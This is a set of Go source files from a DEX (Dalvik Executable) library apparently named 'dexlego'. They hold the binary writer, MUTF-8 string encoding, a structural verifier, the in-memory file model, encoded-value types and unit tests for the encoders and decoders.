					f.TypeName(cd.Class))
			}
			prev := uint32(0)
			for i, ef := range fields {
				diff := ef.Field - prev
				if i == 0 {
					diff = ef.Field
				}
				data.uleb(diff)
				data.uleb(ef.AccessFlags)
				prev = ef.Field
			}
			return nil
		}
		if err := writeFields(cd.StaticFields); err != nil {
			return nil, err
		}
		if err := writeFields(cd.InstFields); err != nil {
			return nil, err
		}
		writeMethods := func(li int, meths []EncodedMethod) error {
			if !sort.SliceIsSorted(meths, func(i, j int) bool {
				return meths[i].Method < meths[j].Method
			}) {
				return fmt.Errorf("dex: class %s methods not sorted by index",
					f.TypeName(cd.Class))
			}
			prev := uint32(0)
			for i, em := range meths {
				diff := em.Method - prev
				if i == 0 {
					diff = em.Method
				}
				data.uleb(diff)
				data.uleb(em.AccessFlags)
				data.uleb(codeOffs[methodKey{ci, li, i}])
				prev = em.Method
			}
			return nil
		}
		if err := writeMethods(0, cd.DirectMeths); err != nil {
			return nil, err
		}
		if err := writeMethods(1, cd.VirtualMeths); err != nil {
			return nil, err
		}
	}
	addMap(mapClassData, classDataCount, classDataFirst)

	// Static value arrays.
	staticValsOff := make([]uint32, len(f.Classes))
	var arrCount int
	var arrFirst uint32
	for ci := range f.Classes {
		vals := f.Classes[ci].StaticValues
		if len(vals) == 0 {
			continue
		}
		off := abs()
		if arrCount == 0 {
			arrFirst = off
		}
		arrCount++
		staticValsOff[ci] = off
		data.uleb(uint32(len(vals)))
		for _, v := range vals {
			var err error
			data.buf, err = appendEncodedValue(data.buf, v)
			if err != nil {
				return nil, err
			}
		}
	}
	addMap(mapEncodedArray, arrCount, arrFirst)

	// String data.
	stringDataOff := make([]uint32, len(f.Strings))
	var strFirst uint32
	for i, s := range f.Strings {
		off := abs()
		if i == 0 {
			strFirst = off
		}
		stringDataOff[i] = off
		if asciiNoNUL(s) {
			// ASCII encodes as itself with UTF-16 length len(s): write the
			// bytes straight into the data section, no scratch encoding.
			data.uleb(uint32(len(s)))
			data.buf = append(data.buf, s...)
		} else {
			enc, u16len := encodeMUTF8(s)
			data.uleb(uint32(u16len))
			data.buf = append(data.buf, enc...)
		}
		data.u8(0)
	}
	addMap(mapStringData, len(f.Strings), strFirst)

	// Map list.
	data.align4()
	mapOff := abs()
	addMap(mapMapList, 1, mapOff)
	sort.SliceStable(mapEntries, func(i, j int) bool {
		return mapEntries[i].offset < mapEntries[j].offset
	})
	data.u32(uint32(len(mapEntries)))
	for _, e := range mapEntries {
		data.u16(e.kind)
		data.u16(0)
		data.u32(e.size)
		data.u32(e.offset)
	}

	// Assemble the final file.
	total := dataOff + data.len()
	out := &byteWriter{buf: make([]byte, 0, total)}
	out.buf = append(out.buf, Magic...)
	out.u32(0)                                     // checksum, patched below
	out.buf = append(out.buf, make([]byte, 20)...) // signature, patched below
	out.u32(uint32(total))
	out.u32(headerSize)
	out.u32(endianTag)
	out.u32(0) // link_size
	out.u32(0) // link_off
	out.u32(mapOff)
	out.u32(uint32(len(f.Strings)))
	out.u32(offOrZero(len(f.Strings), stringIDsOff))
	out.u32(uint32(len(f.Types)))
	out.u32(offOrZero(len(f.Types), typeIDsOff))
	out.u32(uint32(len(f.Protos)))
	out.u32(offOrZero(len(f.Protos), protoIDsOff))
	out.u32(uint32(len(f.Fields)))
	out.u32(offOrZero(len(f.Fields), fieldIDsOff))
	out.u32(uint32(len(f.Methods)))
	out.u32(offOrZero(len(f.Methods), methodIDsOff))
	out.u32(uint32(len(f.Classes)))
	out.u32(offOrZero(len(f.Classes), classDefsOff))
	out.u32(uint32(data.len()))
	out.u32(uint32(dataOff))

	for _, off := range stringDataOff {
		out.u32(off)
	}
	for _, t := range f.Types {
		out.u32(t)
	}
	for i, p := range f.Protos {
		out.u32(p.Shorty)
		out.u32(p.Return)
		out.u32(protoParamsOff[i])
	}
	for _, fd := range f.Fields {
		out.u16(uint16(fd.Class))
		out.u16(uint16(fd.Type))
		out.u32(fd.Name)
	}
	for _, m := range f.Methods {
		out.u16(uint16(m.Class))
		out.u16(uint16(m.Proto))
		out.u32(m.Name)
	}
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		out.u32(cd.Class)
		out.u32(cd.AccessFlags)
		out.u32(cd.Superclass)
		out.u32(classIfaceOff[ci])
		out.u32(cd.SourceFile)
		out.u32(0) // annotations_off
		out.u32(classDataOff[ci])
		out.u32(staticValsOff[ci])
	}
	out.buf = append(out.buf, data.buf...)

	// Signature over everything after it, checksum over everything after it.
	sig := sha1.Sum(out.buf[32:])
	copy(out.buf[12:32], sig[:])
	sum := adler32.Checksum(out.buf[12:])
	out.buf[8] = byte(sum)
	out.buf[9] = byte(sum >> 8)
	out.buf[10] = byte(sum >> 16)
	out.buf[11] = byte(sum >> 24)
	return out.buf, nil
}

func offOrZero(n, off int) uint32 {
	if n == 0 {
		return 0
	}
	return uint32(off)
}

func writeCodeItem(w *byteWriter, code *Code, handlers *byteWriter) error {
	w.u16(code.RegistersSize)
	w.u16(code.InsSize)
	w.u16(code.OutsSize)
	w.u16(uint16(len(code.Tries)))
	w.u32(0) // debug_info_off
	w.u32(uint32(len(code.Insns)))
	for _, u := range code.Insns {
		w.u16(u)
	}
	if len(code.Tries) == 0 {
		return nil
	}
	if len(code.Insns)%2 != 0 {
		w.u16(0) // padding
	}
	// Each try gets its own encoded_catch_handler. Handler offsets are
	// relative to the start of the encoded_catch_handler_list; the scratch
	// writer is reused across code items.
	handlers.buf = handlers.buf[:0]
	handlers.uleb(uint32(len(code.Tries)))
	handlerOff := make([]uint32, len(code.Tries))
	for i, t := range code.Tries {
		handlerOff[i] = uint32(handlers.len())
		size := int32(len(t.Handlers))
		if t.CatchAll >= 0 {
			size = -size
		}
		handlers.sleb(size)
		for _, h := range t.Handlers {
			handlers.uleb(h.Type)
			handlers.uleb(h.Addr)
		}
		if t.CatchAll >= 0 {
			handlers.uleb(uint32(t.CatchAll))
		}
	}
	for i, t := range code.Tries {
		if handlerOff[i] > 0xffff {
			return fmt.Errorf("dex: handler offset overflow")
		}
		w.u32(t.Start)
		w.u16(uint16(t.Count))
		w.u16(uint16(handlerOff[i]))
	}
	w.buf = append(w.buf, handlers.buf...)
	return nil
}

func (f *File) validate() error {
	for i, t := range f.Types {
		if int(t) >= len(f.Strings) {
			return fmt.Errorf("dex: type %d references string %d out of range", i, t)
		}
	}
	for i, p := range f.Protos {
		if int(p.Shorty) >= len(f.Strings) || int(p.Return) >= len(f.Types) {
			return fmt.Errorf("dex: proto %d has out-of-range references", i)
		}
		for _, t := range p.Params {
			if int(t) >= len(f.Types) {
				return fmt.Errorf("dex: proto %d param type %d out of range", i, t)
			}
		}
	}
	for i, fd := range f.Fields {
		if int(fd.Class) >= len(f.Types) || int(fd.Type) >= len(f.Types) ||
			int(fd.Name) >= len(f.Strings) {
			return fmt.Errorf("dex: field %d has out-of-range references", i)
		}
	}
	for i, m := range f.Methods {
		if int(m.Class) >= len(f.Types) || int(m.Proto) >= len(f.Protos) ||
			int(m.Name) >= len(f.Strings) {
			return fmt.Errorf("dex: method %d has out-of-range references", i)
		}
	}
	for i := range f.Classes {
		cd := &f.Classes[i]
		if int(cd.Class) >= len(f.Types) {
			return fmt.Errorf("dex: class %d type out of range", i)
		}
		if cd.Superclass != NoIndex && int(cd.Superclass) >= len(f.Types) {
			return fmt.Errorf("dex: class %d superclass out of range", i)
		}
		if cd.SourceFile != NoIndex && int(cd.SourceFile) >= len(f.Strings) {
			return fmt.Errorf("dex: class %d source file out of range", i)
		}
		if len(cd.StaticValues) > len(cd.StaticFields) {
			return fmt.Errorf("dex: class %s has %d static values for %d static fields",
				f.TypeName(cd.Class), len(cd.StaticValues), len(cd.StaticFields))
		}
	}
	return nil
}
