package dex

import (
	"errors"
	"unicode/utf16"
	"unicode/utf8"
)

var errMUTF8 = errors.New("dex: malformed MUTF-8 string data")

// encodeMUTF8 encodes s as Modified UTF-8 (U+0000 becomes 0xC0 0x80,
// supplementary code points become surrogate pairs encoded independently)
// and returns the bytes plus the UTF-16 length that DEX string_data_items
// record.
func encodeMUTF8(s string) (data []byte, utf16Len int) {
	units := utf16.Encode([]rune(s))
	data = make([]byte, 0, len(s))
	for _, u := range units {
		switch {
		case u == 0:
			data = append(data, 0xc0, 0x80)
		case u < 0x80:
			data = append(data, byte(u))
		case u < 0x800:
			data = append(data, 0xc0|byte(u>>6), 0x80|byte(u&0x3f))
		default:
			data = append(data, 0xe0|byte(u>>12), 0x80|byte(u>>6&0x3f), 0x80|byte(u&0x3f))
		}
	}
	return data, len(units)
}

// asciiNoNUL reports whether s is plain ASCII without NUL — the common
// case for descriptors, identifiers and signatures — which encodes in
// MUTF-8 as itself with UTF-16 length len(s).
func asciiNoNUL(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] == 0 || s[i] >= 0x80 {
			return false
		}
	}
	return true
}

// decodeMUTF8 decodes Modified UTF-8 bytes into a Go string.
func decodeMUTF8(data []byte) (string, error) {
	// ASCII fast path: the bytes are the string, one copy and no UTF-16
	// round trip. Embedded NUL and multi-byte sequences take the slow path.
	i := 0
	for i < len(data) && data[i] != 0 && data[i] < 0x80 {
		i++
	}
	if i == len(data) {
		return string(data), nil
	}
	return decodeMUTF8Slow(data)
}

func decodeMUTF8Slow(data []byte) (string, error) {
	units := make([]uint16, 0, len(data))
	for i := 0; i < len(data); {
		c := data[i]
		switch {
		case c&0x80 == 0:
			if c == 0 {
				return "", errMUTF8 // embedded NUL must be 0xC0 0x80
			}
			units = append(units, uint16(c))
			i++
		case c&0xe0 == 0xc0:
			if i+1 >= len(data) || data[i+1]&0xc0 != 0x80 {
				return "", errMUTF8
			}
			units = append(units, uint16(c&0x1f)<<6|uint16(data[i+1]&0x3f))
			i += 2
		case c&0xf0 == 0xe0:
			if i+2 >= len(data) || data[i+1]&0xc0 != 0x80 || data[i+2]&0xc0 != 0x80 {
				return "", errMUTF8
			}
			units = append(units,
				uint16(c&0x0f)<<12|uint16(data[i+1]&0x3f)<<6|uint16(data[i+2]&0x3f))
			i += 3
		default:
			return "", errMUTF8
		}
	}
	runes := utf16.Decode(units)
	out := make([]byte, 0, len(data))
	for _, r := range runes {
		out = utf8.AppendRune(out, r)
	}
	return string(out), nil
}
