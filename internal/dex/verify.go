package dex

import (
	"fmt"

	"dexlego/internal/bytecode"
)

// VerifyError reports a structural defect found by Verify.
type VerifyError struct {
	Where  string
	Reason string
}

func (e *VerifyError) Error() string {
	return fmt.Sprintf("dex: verify %s: %s", e.Where, e.Reason)
}

// Verify performs the structural checks a loader relies on, beyond what
// Write validates: canonical table ordering, class-definition topology,
// and per-method bytecode sanity (decodability, register bounds, branch
// and switch targets landing on instruction starts, try ranges and handler
// addresses within the body). It returns every defect found.
func Verify(f *File) []error {
	var errs []error
	report := func(where, format string, args ...any) {
		errs = append(errs, &VerifyError{Where: where, Reason: fmt.Sprintf(format, args...)})
	}

	if err := f.validate(); err != nil {
		report("tables", "%v", err)
	}
	for i := 1; i < len(f.Strings); i++ {
		if f.Strings[i-1] >= f.Strings[i] {
			report("string_ids", "not sorted/unique at %d", i)
			break
		}
	}
	for i := 1; i < len(f.Types); i++ {
		if f.Types[i-1] >= f.Types[i] {
			report("type_ids", "not sorted/unique at %d", i)
			break
		}
	}

	// Superclasses defined in this file must precede their subclasses.
	pos := make(map[uint32]int, len(f.Classes))
	for i := range f.Classes {
		if prev, dup := pos[f.Classes[i].Class]; dup {
			report("class_defs", "class %s defined at %d and %d",
				f.TypeName(f.Classes[i].Class), prev, i)
		}
		pos[f.Classes[i].Class] = i
	}
	for i := range f.Classes {
		cd := &f.Classes[i]
		if cd.Superclass == NoIndex {
			continue
		}
		if j, ok := pos[cd.Superclass]; ok && j > i {
			report("class_defs", "class %s precedes its superclass %s",
				f.TypeName(cd.Class), f.TypeName(cd.Superclass))
		}
	}

	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for _, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for mi := range list {
				em := &list[mi]
				if em.Code == nil {
					continue
				}
				where := f.MethodAt(em.Method).Key()
				verifyCode(f, where, em.Code, report)
			}
		}
	}
	return errs
}

func verifyCode(f *File, where string, code *Code, report func(where, format string, args ...any)) {
	placed, err := bytecode.DecodeAll(code.Insns)
	if err != nil {
		report(where, "undecodable body: %v", err)
		return
	}
	if len(placed) == 0 {
		report(where, "empty instruction array")
		return
	}
	starts := make(map[int]bool, len(placed))
	for _, p := range placed {
		starts[p.PC] = true
	}
	if int(code.InsSize) > int(code.RegistersSize) {
		report(where, "ins %d exceed registers %d", code.InsSize, code.RegistersSize)
	}
	// The last reachable instruction must not fall off the end. Trailing
	// alignment nops before switch payloads are unreachable padding and are
	// exempt.
	lastIdx := len(placed) - 1
	for lastIdx > 0 && placed[lastIdx].Inst.Op == bytecode.OpNop {
		lastIdx--
	}
	if last := placed[lastIdx]; !last.Inst.Op.IsTerminator() &&
		!last.Inst.Op.IsSwitch() && !last.Inst.Op.IsBranch() {
		report(where, "control can fall off the end (last op %s)", last.Inst.Op)
	}
	for _, p := range placed {
		maxReg := int32(-1)
		bytecode.MapRegisters(p.Inst, func(r int32) int32 {
			if r > maxReg {
				maxReg = r
			}
			return r
		})
		if maxReg >= int32(code.RegistersSize) {
			report(where, "pc %#x: register v%d exceeds registers_size %d",
				p.PC, maxReg, code.RegistersSize)
		}
		for _, off := range p.Inst.BranchTargets() {
			target := p.PC + int(off)
			if !starts[target] {
				report(where, "pc %#x: %s targets %#x, not an instruction start",
					p.PC, p.Inst.Op, target)
			}
		}
		if kind := p.Inst.Op.Index(); kind != bytecode.IndexNone {
			limit := map[bytecode.IndexKind]int{
				bytecode.IndexString: len(f.Strings),
				bytecode.IndexType:   len(f.Types),
				bytecode.IndexField:  len(f.Fields),
				bytecode.IndexMethod: len(f.Methods),
			}[kind]
			if int(p.Inst.Index) >= limit {
				report(where, "pc %#x: %s index %d out of range",
					p.PC, p.Inst.Op, p.Inst.Index)
			}
		}
	}
	for ti, tr := range code.Tries {
		if int(tr.Start)+int(tr.Count) > len(code.Insns) {
			report(where, "try %d: range [%d,%d) exceeds body %d",
				ti, tr.Start, tr.Start+tr.Count, len(code.Insns))
		}
		for _, h := range tr.Handlers {
			if !starts[int(h.Addr)] {
				report(where, "try %d: handler %#x not an instruction start", ti, h.Addr)
			}
			if int(h.Type) >= len(f.Types) {
				report(where, "try %d: handler type %d out of range", ti, h.Type)
			}
		}
		if tr.CatchAll >= 0 && !starts[int(tr.CatchAll)] {
			report(where, "try %d: catch-all %#x not an instruction start", ti, tr.CatchAll)
		}
	}
}
