package dex

import (
	"testing"
	"testing/quick"
)

func TestULEB128RoundTrip(t *testing.T) {
	f := func(v uint32) bool {
		b := appendULEB128(nil, v)
		got, off, err := readULEB128(b, 0)
		return err == nil && got == v && off == len(b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestSLEB128RoundTrip(t *testing.T) {
	f := func(v int32) bool {
		b := appendSLEB128(nil, v)
		got, off, err := readSLEB128(b, 0)
		return err == nil && got == v && off == len(b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestLEB128Boundaries(t *testing.T) {
	for _, v := range []uint32{0, 1, 127, 128, 1<<14 - 1, 1 << 14, 1<<28 - 1, 1 << 28, 0xffffffff} {
		b := appendULEB128(nil, v)
		got, _, err := readULEB128(b, 0)
		if err != nil || got != v {
			t.Errorf("uleb %d: got %d, err %v", v, got, err)
		}
	}
	for _, v := range []int32{0, -1, 63, 64, -64, -65, 1 << 30, -(1 << 30), 1<<31 - 1, -(1 << 31)} {
		b := appendSLEB128(nil, v)
		got, _, err := readSLEB128(b, 0)
		if err != nil || got != v {
			t.Errorf("sleb %d: got %d, err %v", v, got, err)
		}
	}
}

func TestLEB128Truncated(t *testing.T) {
	if _, _, err := readULEB128([]byte{0x80}, 0); err == nil {
		t.Error("uleb truncated: want error")
	}
	if _, _, err := readULEB128(nil, 0); err == nil {
		t.Error("uleb empty: want error")
	}
	if _, _, err := readSLEB128([]byte{0xff, 0xff}, 0); err == nil {
		t.Error("sleb truncated: want error")
	}
	// Over-long encodings must be rejected, not wrapped.
	if _, _, err := readULEB128([]byte{0x80, 0x80, 0x80, 0x80, 0x80, 0x80}, 0); err == nil {
		t.Error("uleb overlong: want error")
	}
}

func TestMUTF8RoundTrip(t *testing.T) {
	cases := []string{
		"", "hello", "Lcom/test/Main;", "800-123-456",
		"uniécode", "中文", "tab\tnewline\n", "nul\x00embedded",
	}
	for _, s := range cases {
		enc, _ := encodeMUTF8(s)
		got, err := decodeMUTF8(enc)
		if err != nil {
			t.Errorf("%q: decode: %v", s, err)
			continue
		}
		if got != s {
			t.Errorf("round trip %q -> %q", s, got)
		}
	}
}

func TestMUTF8EmbeddedNul(t *testing.T) {
	enc, _ := encodeMUTF8("a\x00b")
	for _, b := range enc {
		if b == 0 {
			t.Fatal("MUTF-8 encoding contains a raw NUL byte")
		}
	}
}

func TestMUTF8Quick(t *testing.T) {
	f := func(s string) bool {
		enc, _ := encodeMUTF8(s)
		got, err := decodeMUTF8(enc)
		return err == nil && got == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestMUTF8Malformed(t *testing.T) {
	bad := [][]byte{
		{0x00},                   // raw NUL
		{0xc0},                   // truncated 2-byte
		{0xe0, 0x80},             // truncated 3-byte
		{0xc0, 0x00},             // bad continuation
		{0xf0, 0x90, 0x80, 0x80}, // 4-byte UTF-8 is not MUTF-8
	}
	for _, b := range bad {
		if _, err := decodeMUTF8(b); err == nil {
			t.Errorf("decodeMUTF8(% x): want error", b)
		}
	}
}

func TestEncodedValueRoundTrip(t *testing.T) {
	vals := []Value{
		{Kind: ValueByte, Int: -5},
		{Kind: ValueByte, Int: 127},
		{Kind: ValueShort, Int: -300},
		{Kind: ValueInt, Int: 0},
		{Kind: ValueInt, Int: 1},
		{Kind: ValueInt, Int: -1},
		{Kind: ValueInt, Int: 0x1234},
		{Kind: ValueInt, Int: -0x12345678},
		{Kind: ValueInt, Int: 1<<31 - 1},
		{Kind: ValueLong, Int: 1 << 40},
		{Kind: ValueLong, Int: -(1 << 55)},
		{Kind: ValueString, Index: 0},
		{Kind: ValueString, Index: 300},
		{Kind: ValueString, Index: 1 << 20},
		{Kind: ValueType, Index: 7},
		{Kind: ValueNull},
		{Kind: ValueBoolean, Int: 0},
		{Kind: ValueBoolean, Int: 1},
	}
	for _, v := range vals {
		b, err := appendEncodedValue(nil, v)
		if err != nil {
			t.Errorf("%+v: encode: %v", v, err)
			continue
		}
		got, off, err := readEncodedValue(b, 0)
		if err != nil {
			t.Errorf("%+v: decode: %v", v, err)
			continue
		}
		if off != len(b) {
			t.Errorf("%+v: trailing bytes", v)
		}
		if got != v {
			t.Errorf("round trip %+v -> %+v", v, got)
		}
	}
}

func TestEncodedValueQuickInt(t *testing.T) {
	f := func(v int32) bool {
		b, err := appendEncodedValue(nil, IntValue(int64(v)))
		if err != nil {
			return false
		}
		got, _, err := readEncodedValue(b, 0)
		return err == nil && got.Int == int64(v)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Error(err)
	}
}

func TestEncodedValueErrors(t *testing.T) {
	if _, err := appendEncodedValue(nil, Value{Kind: ValueByte, Int: 1000}); err == nil {
		t.Error("byte overflow: want error")
	}
	if _, err := appendEncodedValue(nil, Value{Kind: ValueInt, Int: 1 << 40}); err == nil {
		t.Error("int overflow: want error")
	}
	if _, err := appendEncodedValue(nil, Value{Kind: 0x1d}); err == nil {
		t.Error("unsupported kind: want error")
	}
	if _, _, err := readEncodedValue(nil, 0); err == nil {
		t.Error("empty: want error")
	}
	if _, _, err := readEncodedValue([]byte{byte(ValueInt) | 3<<5}, 0); err == nil {
		t.Error("truncated payload: want error")
	}
	if _, _, err := readEncodedValue([]byte{0x1d}, 0); err == nil {
		t.Error("unsupported read kind: want error")
	}
}
