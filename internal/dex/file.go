// Package dex implements the Dalvik Executable (DEX) file format: an
// in-memory model, a binary reader and writer for a faithful subset of the
// on-disk format (magic dex\n035\0, adler32 checksum, SHA-1 signature,
// string/type/proto/field/method id tables, class definitions, code items
// with try/catch tables, encoded static values and the map list), and a
// Builder that interns constants and emits canonically sorted files.
package dex

import (
	"fmt"
	"strings"

	"dexlego/internal/bytecode"
)

// NoIndex is the sentinel for absent superclass or source-file references.
const NoIndex uint32 = 0xffffffff

// Access flags for classes, fields and methods (subset of the DEX spec).
const (
	AccPublic      uint32 = 0x0001
	AccPrivate     uint32 = 0x0002
	AccProtected   uint32 = 0x0004
	AccStatic      uint32 = 0x0008
	AccFinal       uint32 = 0x0010
	AccInterface   uint32 = 0x0200
	AccAbstract    uint32 = 0x0400
	AccNative      uint32 = 0x0100
	AccConstructor uint32 = 0x10000
)

// File is an in-memory DEX file. Index fields reference the id tables,
// mirroring the on-disk structure.
type File struct {
	Strings []string
	Types   []uint32 // string index of each type descriptor
	Protos  []Proto
	Fields  []FieldID
	Methods []MethodID
	Classes []ClassDef

	// sigs memoizes SignatureOf per proto index (see BuildSignatureCache).
	sigs []string
}

// Proto is a method prototype (proto_id_item).
type Proto struct {
	Shorty uint32   // string index
	Return uint32   // type index
	Params []uint32 // type indices
}

// FieldID is a field reference (field_id_item).
type FieldID struct {
	Class uint32 // type index of the declaring class
	Type  uint32 // type index of the field type
	Name  uint32 // string index
}

// MethodID is a method reference (method_id_item).
type MethodID struct {
	Class uint32 // type index of the declaring class
	Proto uint32 // proto index
	Name  uint32 // string index
}

// ClassDef is a class definition (class_def_item plus its class_data).
type ClassDef struct {
	Class        uint32 // type index
	AccessFlags  uint32
	Superclass   uint32 // type index or NoIndex
	Interfaces   []uint32
	SourceFile   uint32 // string index or NoIndex
	StaticFields []EncodedField
	InstFields   []EncodedField
	DirectMeths  []EncodedMethod
	VirtualMeths []EncodedMethod
	StaticValues []Value
}

// EncodedField is a field declaration inside a class_data_item.
type EncodedField struct {
	Field       uint32 // field index
	AccessFlags uint32
}

// EncodedMethod is a method declaration inside a class_data_item.
type EncodedMethod struct {
	Method      uint32 // method index
	AccessFlags uint32
	Code        *Code // nil for abstract and native methods
}

// Code is a code_item: the register file shape and the 16-bit instruction
// array the interpreter walks, plus try/catch tables.
type Code struct {
	RegistersSize uint16
	InsSize       uint16
	OutsSize      uint16
	Insns         []uint16
	Tries         []Try
	// IndexFixups lists the positions of constant-pool index operands inside
	// Insns, recorded by the assembler at layout time. Builder.Finish patches
	// those positions directly when remapping provisional indices instead of
	// decoding and re-encoding the instruction stream; nil (code that did not
	// come through the assembler, e.g. read from an existing DEX) selects the
	// decode-based remap path. The writer ignores this field.
	IndexFixups []bytecode.IndexFixup
}

// Try is one try_item and its resolved catch handlers.
type Try struct {
	Start    uint32 // first covered dex_pc
	Count    uint32 // number of covered units
	Handlers []TypeAddr
	CatchAll int32 // handler dex_pc, or -1 when absent
}

// TypeAddr is one typed catch: exception type index and handler dex_pc.
type TypeAddr struct {
	Type uint32
	Addr uint32
}

// Covers reports whether the try block covers the given dex_pc.
func (t Try) Covers(pc int) bool {
	return uint32(pc) >= t.Start && uint32(pc) < t.Start+t.Count
}

// Clone returns a deep copy of the code item.
func (c *Code) Clone() *Code {
	if c == nil {
		return nil
	}
	out := &Code{
		RegistersSize: c.RegistersSize,
		InsSize:       c.InsSize,
		OutsSize:      c.OutsSize,
		Insns:         append([]uint16(nil), c.Insns...),
	}
	for _, t := range c.Tries {
		nt := t
		nt.Handlers = append([]TypeAddr(nil), t.Handlers...)
		out.Tries = append(out.Tries, nt)
	}
	return out
}

// --- lookup helpers -------------------------------------------------------

// TypeName returns the descriptor of the type at index idx.
func (f *File) TypeName(idx uint32) string {
	if idx == NoIndex {
		return "<none>"
	}
	if int(idx) >= len(f.Types) {
		return fmt.Sprintf("<bad-type@%d>", idx)
	}
	return f.Strings[f.Types[idx]]
}

// String returns the string at index idx (empty on out-of-range).
func (f *File) String(idx uint32) string {
	if int(idx) >= len(f.Strings) {
		return ""
	}
	return f.Strings[idx]
}

// MethodRef describes a resolved method reference.
type MethodRef struct {
	Class     string // declaring class descriptor
	Name      string
	Signature string // e.g. (Ljava/lang/String;I)V
}

// Key returns the canonical Lcls;->name(sig) form.
func (r MethodRef) Key() string { return r.Class + "->" + r.Name + r.Signature }

func (r MethodRef) String() string { return r.Key() }

// MethodAt resolves the method_id at index idx.
func (f *File) MethodAt(idx uint32) MethodRef {
	if int(idx) >= len(f.Methods) {
		return MethodRef{Class: fmt.Sprintf("<bad-method@%d>", idx)}
	}
	m := f.Methods[idx]
	return MethodRef{
		Class:     f.TypeName(m.Class),
		Name:      f.String(m.Name),
		Signature: f.SignatureOf(m.Proto),
	}
}

// FieldRef describes a resolved field reference.
type FieldRef struct {
	Class string
	Name  string
	Type  string
}

// Key returns the canonical Lcls;->name:type form.
func (r FieldRef) Key() string { return r.Class + "->" + r.Name + ":" + r.Type }

func (r FieldRef) String() string { return r.Key() }

// FieldAt resolves the field_id at index idx.
func (f *File) FieldAt(idx uint32) FieldRef {
	if int(idx) >= len(f.Fields) {
		return FieldRef{Class: fmt.Sprintf("<bad-field@%d>", idx)}
	}
	fd := f.Fields[idx]
	return FieldRef{
		Class: f.TypeName(fd.Class),
		Name:  f.String(fd.Name),
		Type:  f.TypeName(fd.Type),
	}
}

// SignatureOf formats the proto at index idx as (params)return. Parsed
// files answer from the signature cache; method resolution calls this for
// every reference, so rebuilding the string each time shows up in the
// collection hot path.
func (f *File) SignatureOf(idx uint32) string {
	if int(idx) < len(f.sigs) {
		return f.sigs[idx]
	}
	if int(idx) >= len(f.Protos) {
		return fmt.Sprintf("<bad-proto@%d>", idx)
	}
	return f.formatSignature(f.Protos[idx])
}

func (f *File) formatSignature(p Proto) string {
	var sb strings.Builder
	sb.WriteByte('(')
	for _, t := range p.Params {
		sb.WriteString(f.TypeName(t))
	}
	sb.WriteByte(')')
	sb.WriteString(f.TypeName(p.Return))
	return sb.String()
}

// BuildSignatureCache precomputes every proto signature. Linking resolves
// the signature of each method reference it touches, so a class loader
// calls this once before the fan-out; it must not race with concurrent
// SignatureOf calls, and repeated calls are no-ops. Parse-only consumers
// (decode benchmarks, verify passes) never pay for it.
func (f *File) BuildSignatureCache() {
	if f.sigs != nil {
		return
	}
	sigs := make([]string, len(f.Protos))
	for i, p := range f.Protos {
		sigs[i] = f.formatSignature(p)
	}
	f.sigs = sigs
}

// FindClass returns the class definition with the given descriptor, or nil.
func (f *File) FindClass(descriptor string) *ClassDef {
	for i := range f.Classes {
		if f.TypeName(f.Classes[i].Class) == descriptor {
			return &f.Classes[i]
		}
	}
	return nil
}

// FindMethod returns the encoded method with the given name and signature in
// the class with the given descriptor, or nil.
func (f *File) FindMethod(descriptor, name, signature string) *EncodedMethod {
	cd := f.FindClass(descriptor)
	if cd == nil {
		return nil
	}
	for _, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
		for i := range list {
			ref := f.MethodAt(list[i].Method)
			if ref.Name == name && (signature == "" || ref.Signature == signature) {
				return &list[i]
			}
		}
	}
	return nil
}

// InstructionCount returns the total number of decoded instructions across
// every method body in the file. It is the metric reported in the paper's
// Tables I and VI.
func (f *File) InstructionCount() int {
	total := 0
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for _, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for _, m := range list {
				if m.Code == nil {
					continue
				}
				total += countInsns(m.Code.Insns)
			}
		}
	}
	return total
}

// MethodCount returns the number of declared methods.
func (f *File) MethodCount() int {
	total := 0
	for ci := range f.Classes {
		total += len(f.Classes[ci].DirectMeths) + len(f.Classes[ci].VirtualMeths)
	}
	return total
}

// ShortyOf computes the shorty descriptor for a return type and parameter
// list given as type descriptors.
func ShortyOf(ret string, params []string) string {
	var sb strings.Builder
	sb.WriteByte(shortyChar(ret))
	for _, p := range params {
		sb.WriteByte(shortyChar(p))
	}
	return sb.String()
}

func shortyChar(descriptor string) byte {
	if descriptor == "" {
		return 'V'
	}
	c := descriptor[0]
	switch c {
	case 'L', '[':
		return 'L'
	default:
		return c
	}
}

// ParseSignature splits a (params)return signature into parameter and return
// descriptors.
func ParseSignature(sig string) (params []string, ret string, err error) {
	if len(sig) < 3 || sig[0] != '(' {
		return nil, "", fmt.Errorf("dex: malformed signature %q", sig)
	}
	i := 1
	for i < len(sig) && sig[i] != ')' {
		start := i
		for i < len(sig) && sig[i] == '[' {
			i++
		}
		if i >= len(sig) {
			return nil, "", fmt.Errorf("dex: malformed signature %q", sig)
		}
		if sig[i] == 'L' {
			for i < len(sig) && sig[i] != ';' {
				i++
			}
			if i >= len(sig) {
				return nil, "", fmt.Errorf("dex: malformed signature %q", sig)
			}
		}
		i++
		params = append(params, sig[start:i])
	}
	if i >= len(sig) || sig[i] != ')' {
		return nil, "", fmt.Errorf("dex: malformed signature %q", sig)
	}
	return params, sig[i+1:], nil
}
