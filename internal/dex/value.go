package dex

import (
	"fmt"

	"dexlego/internal/bytecode"
)

// ValueKind identifies an encoded_value type. Values match the DEX
// specification's VALUE_* codes.
type ValueKind uint8

// Supported encoded value kinds.
const (
	ValueByte    ValueKind = 0x00
	ValueShort   ValueKind = 0x02
	ValueInt     ValueKind = 0x04
	ValueLong    ValueKind = 0x06
	ValueString  ValueKind = 0x17
	ValueType    ValueKind = 0x18
	ValueNull    ValueKind = 0x1e
	ValueBoolean ValueKind = 0x1f
)

// Value is an encoded_value: a static field initializer.
type Value struct {
	Kind  ValueKind
	Int   int64  // ValueByte/Short/Int/Long/Boolean payload
	Index uint32 // ValueString/ValueType payload
}

